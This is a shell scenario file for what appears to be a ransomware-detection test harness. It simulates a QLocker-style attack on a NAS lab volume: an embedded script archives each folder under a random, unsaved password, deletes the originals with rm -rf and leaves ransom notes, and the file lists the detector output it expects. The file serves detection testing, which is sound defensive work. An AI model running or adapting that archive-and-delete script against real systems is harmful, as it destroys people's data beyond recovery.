# QLocker as it hit QNAP boxes: an ssh login of erin (a real sshd on the host, key authentication, pam_loginuid)
# runs a dropped script with sudo that packs each folder of the NAS volume into its own password-protected
# 7-Zip archive (7zz a -mx=0 -mhe=on -p…), deletes the folder, and leaves !!!READ_ME.txt at the share roots.
HOST=nas02.corp.example
SUMMARY="Attack (QLocker style, archive-and-delete): erin logs in over ssh (real sshd, pam_loginuid) and sudo runs /var/tmp/.qpkg/qsync.sh: per folder of the NAS volume 7zz a -mx=0 -mhe=on -p<key> FOLDER.7z FOLDER, then rm -rf FOLDER; !!!READ_ME.txt in the share roots. Host rule set: sshd, the harness and root daemons are in the log."
VOL=/srv/rt-lab/volume1
folders() { find "$VOL" -type f -printf '%h\n' | sort -u; }   # every folder holding files: one archive each
targets() { find "$VOL" -type f | sort; }

scenario_prepare() {
    /usr/bin/python3 "$RT_RECORD_DIR/make-extra.py" nas "$VOL" 4161 1105
    RT_Q=/var/tmp/.qpkg; mkdir -p "$RT_Q"
    rt_note_text > "$RT_Q/readme"
    cat > "$RT_Q/qsync.sh" <<'SH'
#!/bin/bash
k=$(head -c 24 /dev/urandom | base64 | tr -d '/+=')
find /srv/rt-lab/volume1 -type f -printf '%h\n' | sort -u | while read -r d; do
    7zz a -mx=0 -mhe=on -p"$k" "$d.7z" "$d" > /dev/null && rm -rf "$d"
done
for s in /srv/rt-lab/volume1/ /srv/rt-lab/volume1/*/; do cp /var/tmp/.qpkg/readme "$s!!!READ_ME.txt"; done
SH
    chmod 755 "$RT_Q/qsync.sh"
    targets > "$RT_OPT.targets"
    N_FILES=$(wc -l < "$RT_OPT.targets"); N_FOLDERS=$(folders | wc -l)
}
scenario_run() {
    rt_attack as_ssh erin "sudo /var/tmp/.qpkg/qsync.sh"
}
scenario_verify() {
    rt_check archives "$(find "$VOL" -name '*.7z' | wc -l)" "$N_FOLDERS" &&
    rt_check originals-left "$(find "$VOL" -type f ! -name '*.7z' ! -name '!!!READ_ME.txt' | wc -l)" 0 &&
    N_SHARES=$(find "$VOL" -name '!!!READ_ME.txt' | wc -l) && rt_check notes "$N_SHARES" "$(( $(ls -d "$VOL"/*/ | wc -l) + 1 ))"
}
scenario_truth() {
    cat <<Y
split: tuned      # recorded after the detector change (issue 16); the detector was then fixed against it (dirfd-relative rm -rf paths, folder archives)
expected:
  - rootExe: /usr/bin/bash
    rootCommandContains: "qsync.sh"
    loginUser: erin
    runAsUser: root
    filesAffected: $N_FILES
    overwrite: archived-then-deleted
    newExtension: .7z
    notes: { name: "!!!READ_ME.txt", directories: $N_SHARES }
    tools: [7zz]
    targetRoots: [$VOL]
    detail: "$N_FOLDERS folders, one 7-Zip archive each (headers encrypted), each folder deleted after its archive was written"
Y
}
scenario_cleanup() { rm -rf /var/tmp/.qpkg "$RT_OPT.targets"; }
